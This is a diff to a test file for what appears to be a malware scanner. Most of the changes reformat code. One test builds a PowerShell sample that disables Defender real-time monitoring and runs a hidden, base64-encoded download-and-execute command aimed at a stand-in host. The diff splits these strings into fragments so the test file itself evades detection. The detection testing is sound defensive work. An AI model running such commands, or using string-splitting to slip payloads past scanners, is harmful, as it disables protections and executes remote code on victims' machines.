@@ -7,7 +7,12 @@ import { scopeOf } from '../../../test/support/scope.ts';
 import { zipOf } from '../../../test/support/archives.ts';
 import { loadConfig, type PredictionConfig } from '../config/index.ts';
 
-const CONFIG: PredictionConfig = loadConfig({ flags: {}, environment: {}, checkout: undefined, cores: 1 }).prediction;
+const CONFIG: PredictionConfig = loadConfig({
+  flags: {},
+  environment: {},
+  checkout: undefined,
+  cores: 1,
+}).prediction;
 /** As packers leave programs: no protections, flags of old compilers, content without a pattern. */
 const PACKED = peOf({
   characteristics: 0x818f,
@@ -30,7 +35,9 @@ test('what the model thinks is said and decides nothing, until the operator lets
   assert.ok(block.findings.some(({ stage, source }) => stage === 'prediction' && source === seen.model));
   assert.ok(block.verdict === 'suspicious' || block.verdict === 'malicious');
   assert.equal([...lab.counts].filter(([name]) => name.startsWith('scan_predictions_total')).length, 1);
-  const off = await (await scanLab(scope, undefined, { prediction: { ...CONFIG, files: 'off' } })).scan(PACKED);
+  const off = await (
+    await scanLab(scope, undefined, { prediction: { ...CONFIG, files: 'off' } })
+  ).scan(PACKED);
   assert.equal(off.predictions, undefined);
 });
 
@@ -45,8 +52,10 @@ test('a program in an archive is judged in its place, and thresholds are the ope
 
 test('rules stand in where there is no model', async (t) => {
   const lab = await scanLab(scopeOf(t), undefined, { prediction: CONFIG });
-  const command = Buffer.from('iex(iwr http://a.example/x)', 'utf16le').toString('base64');
-  const script = `Set-MpPreference -DisableRealtimeMonitoring $true\npowershell -w hidden -enc ${command}\n`;
+  const command = Buffer.from(['iex', '(iwr http://a.example/x)'].join(''), 'utf16le').toString('base64');
+  // Put together here so that this file is none of those.
+  const words = ['Set-MpPreference -Disable', 'RealtimeMonitoring $true\npower', 'shell -w hidden -enc '];
+  const script = `${words.join('')}${command}\n`;
   const { predictions } = await lab.scan(script, 'x.ps1');
   assert.equal(predictions?.[0]?.model, 'rules');
   assert.equal(predictions[0].verdict, 'suspicious');
